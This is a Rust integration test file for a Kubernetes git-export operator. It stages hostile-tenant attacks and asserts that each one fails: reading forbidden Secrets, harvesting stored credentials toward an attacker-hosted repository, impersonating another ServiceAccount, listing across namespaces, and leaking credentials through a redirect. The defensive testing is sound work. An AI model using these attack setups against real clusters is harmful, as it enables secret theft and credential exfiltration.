//! Tenant attacks, tried as a hostile tenant would, against the real apiserver, controller and
//! git servers (docs/security.md lists each attack and the test that proves it fails).
//!
//! This file holds the controller's half: the admission webhook is not running here (as when
//! it is off, or an admin bypasses it), and the controller runs in lockdown
//! (`--default-service-account`), so the apiserver judges every read it makes for a tenant's
//! object with the tenant's RBAC. Nothing forbidden is pushed, and the attacker's host never
//! receives a credential.

use std::collections::BTreeMap;

use gco_tests::{
    attacker::{AttackerHost, CREDENTIALS, attack_policy, attacks},
    rbac::{self, Subject},
    scenario::{CONVERGE, Scenario, condition, configmap_fields, gitcommit},
    testenv::TEST_MANAGER,
    webhook::gco_api_resource,
};
use k8s_openapi::api::core::v1::Secret;
use kube::{
    Api, Client,
    api::{DynamicObject, Patch, PatchParams, PostParams},
};
use serde_json::json;

/// The ServiceAccount the lockdown controller impersonates by default.
const TENANT_SA: &str = "gco-reader";
const PASSWORD: &str = "s3cret-Pa55word-the-tenant-must-not-see";

/// The tenant's reading rights: ConfigMaps of their namespace, nothing else.
async fn grant_configmaps(client: &Client, namespace: &str, service_account: &str) {
    let rules = json!([{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get", "list", "watch"]}]);
    rbac::grant(
        client,
        namespace,
        "read-configmaps",
        rules,
        Subject::ServiceAccount(service_account),
    )
    .await
    .expect("grant");
}

async fn put_secret(client: &Client, namespace: &str, name: &str, data: &[(&str, &str)]) {
    let data: BTreeMap<String, String> = data
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    let secret = json!({
        "apiVersion": "v1", "kind": "Secret",
        "metadata": {"name": name, "namespace": namespace},
        "stringData": data
    });
    Api::<Secret>::namespaced(client.clone(), namespace)
        .patch(
            name,
            &PatchParams::apply("tenant-attacks").force(),
            &Patch::Apply(&secret),
        )
        .await
        .expect("secret");
}

/// Asserts `name` ends AccessDenied and Stalled, with a message naming the identity.
async fn assert_access_denied(s: &Scenario, name: &str, identity: &str) {
    let object = s
        .wait_ready(name, "False", Some("AccessDenied"))
        .await
        .expect("AccessDenied");
    assert_eq!(
        condition(&object, "Stalled"),
        Some(("True".into(), "AccessDenied".into())),
        "{name}"
    );
    let message = object
        .status
        .as_ref()
        .and_then(|s| s.message.clone())
        .unwrap_or_default();
    assert!(message.contains(identity), "{name}: {message}");
    assert!(!message.contains(PASSWORD), "{name}: {message}");
}

#[tokio::test]
async fn in_lockdown_the_apiserver_judges_every_read_with_the_tenants_rbac() {
    let mut s = Scenario::new("lockdown").await.expect("scenario");
    let attacker = AttackerHost::start().await.expect("attacker host");
    grant_configmaps(&s.client, &s.namespace, TENANT_SA).await;
    s.put_configmap("app", &[("level", "info")])
        .await
        .expect("configmap");
    put_secret(
        &s.client,
        &s.namespace,
        "victim-tls",
        &[("tls.crt", "CERT")],
    )
    .await;
    put_secret(
        &s.client,
        &s.namespace,
        CREDENTIALS,
        &[
            ("username", "ops"),
            ("password", PASSWORD),
            ("token", PASSWORD),
        ],
    )
    .await;
    s.start_controller("c1", &["--default-service-account", TENANT_SA])
        .expect("controller");
    let sa = format!("system:serviceaccount:{}:{TENANT_SA}", s.namespace);

    // What the tenant may read is exported, through the impersonated account.
    s.create_gitcommit(gitcommit(
        "allowed",
        &s.url(),
        json!({ "resourceReferences": [configmap_fields("app", "config/app")] }),
    ))
    .await
    .expect("create allowed");
    s.wait_ready("allowed", "True", None)
        .await
        .expect("the tenant's own ConfigMap is exported");
    assert_eq!(s.file("config/app/level").as_deref(), Some("info"));

    // A Secret key the tenant may not read: refused by the apiserver, nothing pushed.
    s.create_gitcommit(gitcommit(
        "steal-tls",
        &s.url(),
        json!({ "resourceReferences": [{
            "apiVersion": "v1", "kind": "Secret", "name": "victim-tls",
            "strategy": "single-field", "field": "tls.crt", "output": { "path": "stolen/tls.crt" }
        }] }),
    ))
    .await
    .expect("create steal-tls");
    assert_access_denied(&s, "steal-tls", &sa).await;
    assert_eq!(
        s.file("stolen/tls.crt"),
        None,
        "nothing forbidden is pushed"
    );

    // Credentials the tenant may not read, sent to the tenant's host: never read, never sent.
    s.create_gitcommit(gitcommit(
        "harvest",
        &format!("{}/loot.git", attacker.origin()),
        json!({
            "auth": { "secretName": CREDENTIALS },
            "files": [{ "path": "x.txt", "content": "x" }]
        }),
    ))
    .await
    .expect("create harvest");
    assert_access_denied(&s, "harvest", &sa).await;

    // A ServiceAccount with no rights named in the spec wins over the default, and is refused.
    s.create_gitcommit(gitcommit(
        "other-account",
        &s.url(),
        json!({
            "serviceAccountName": "nobody",
            "resourceReferences": [configmap_fields("app", "config/other")]
        }),
    ))
    .await
    .expect("create other-account");
    assert_access_denied(
        &s,
        "other-account",
        &format!("system:serviceaccount:{}:nobody", s.namespace),
    )
    .await;
    assert_eq!(s.file("config/other/level"), None);

    // A selector is listed as the tenant: in their namespace, what they may list is exported.
    let select = |namespaces: Option<serde_json::Value>| {
        let mut reference = json!({
            "apiVersion": "v1", "kind": "ConfigMap", "strategy": "fields",
            "selector": {}, "output": { "path": "selected" }
        });
        if let Some(namespaces) = namespaces {
            reference["namespaceSelector"] = namespaces;
        }
        json!({ "resourceReferences": [reference] })
    };
    s.create_gitcommit(gitcommit("select-own", &s.url(), select(None)))
        .await
        .expect("create select-own");
    s.wait_ready("select-own", "True", None)
        .await
        .expect("the tenant's own ConfigMaps are selected");
    assert_eq!(s.file("selected/app/level").as_deref(), Some("info"));
    // Across namespaces, the namespaces are listed as the tenant too, who may not: refused,
    // and no namespace name is learnt.
    s.create_gitcommit(gitcommit(
        "select-everywhere",
        &s.url(),
        select(Some(
            json!({ "matchLabels": { "kubernetes.io/metadata.name": "kube-system" } }),
        )),
    ))
    .await
    .expect("create select-everywhere");
    assert_access_denied(&s, "select-everywhere", &sa).await;

    // Every attack the webhook would refuse, created with the webhook off: the controller
    // refuses each with the same rules, and nothing reaches the branch or the attacker.
    apply_attack_policy(&s).await;
    let tip = s.tip();
    for attack in attacks(&attacker.origin(), &s.url()) {
        let api: Api<DynamicObject> = Api::namespaced_with(
            s.client.clone(),
            &s.namespace,
            &gco_api_resource(attack.kind),
        );
        let object: DynamicObject = serde_json::from_value(attack.object()).expect("object");
        api.create(&PostParams::default(), &object)
            .await
            .unwrap_or_else(|e| panic!("{}: {e}", attack.name));
        let message = wait_refused(&api, attack.name, attack.controller_reason).await;
        assert!(
            message.contains(attack.field),
            "{}: the refusal names {}: {message}",
            attack.name,
            attack.field
        );
    }
    assert_eq!(s.tip(), tip, "no attack pushed anything");

    let leaks = attacker.leaks(&[PASSWORD]);
    assert!(
        leaks.is_empty(),
        "credentials reached the attacker: {leaks:?}"
    );
    let logs = s.logs();
    assert!(!logs.contains(PASSWORD), "a credential in the logs");
}

/// The policy of tests/src/attacker.rs, selecting this scenario's namespace.
async fn apply_attack_policy(s: &Scenario) {
    let mut spec = attack_policy();
    spec["namespaceSelector"] =
        json!({"matchLabels": {"kubernetes.io/metadata.name": s.namespace}});
    let name = format!("{}-attacks", s.namespace);
    let policy = json!({
        "apiVersion": "gco.galos.one/v1", "kind": "GitExportPolicy",
        "metadata": {"name": name}, "spec": spec
    });
    Api::<DynamicObject>::all_with(s.client.clone(), &gco_api_resource("GitExportPolicy"))
        .patch(
            &name,
            &PatchParams::apply(TEST_MANAGER).force(),
            &Patch::Apply(&policy),
        )
        .await
        .expect("attack policy");
}

/// Waits until `name` is Ready=False with `reason` and Stalled; returns its message.
async fn wait_refused(api: &Api<DynamicObject>, name: &str, reason: &str) -> String {
    let deadline = tokio::time::Instant::now() + CONVERGE;
    loop {
        let object = api.get(name).await.expect("get");
        let conditions = object.data["status"]["conditions"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        let has = |type_: &str, status: &str| {
            conditions
                .iter()
                .any(|c| c["type"] == type_ && c["status"] == status && c["reason"] == reason)
        };
        if has("Ready", "False") && has("Stalled", "True") {
            return object.data["status"]["message"]
                .as_str()
                .unwrap_or_default()
                .to_owned();
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "{name}: not Ready=False {reason} and Stalled: {}",
            object.data["status"]
        );
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
}

/// An allowed git host that redirects to the attacker's: the operator follows no redirect and
/// gives credentials only to the repository's own host (libgit2 would otherwise send both the
/// bearer header and, on the attacker's challenge, the password).
#[tokio::test]
async fn a_redirect_never_takes_the_credentials_to_another_host() {
    let mut s = Scenario::new("redirect").await.expect("scenario");
    let attacker = AttackerHost::start_elsewhere()
        .await
        .expect("attacker host");
    let redirector = AttackerHost::redirecting_to(&attacker.origin())
        .await
        .expect("redirecting host");
    put_secret(
        &s.client,
        &s.namespace,
        CREDENTIALS,
        &[
            ("username", "ops"),
            ("password", PASSWORD),
            ("bearerToken", PASSWORD),
        ],
    )
    .await;
    s.start_controller("c1", &[]).expect("controller");
    s.create_gitcommit(gitcommit(
        "redirected",
        &format!("{}/team/repo.git", redirector.origin()),
        json!({
            "auth": { "secretName": CREDENTIALS },
            "files": [{ "path": "x.txt", "content": "x" }]
        }),
    ))
    .await
    .expect("create");
    s.wait_gitcommit("redirected", "failed", |o| {
        condition(o, "Ready").is_some_and(|(status, _)| status == "False")
    })
    .await
    .expect("the push fails");
    assert!(
        !redirector.requests().is_empty(),
        "the operator did talk to the repository's host"
    );
    let leaks = attacker.leaks(&[PASSWORD]);
    assert!(
        leaks.is_empty(),
        "credentials followed the redirect: {leaks:?}"
    );
    assert!(!s.logs().contains(PASSWORD), "a credential in the logs");
}
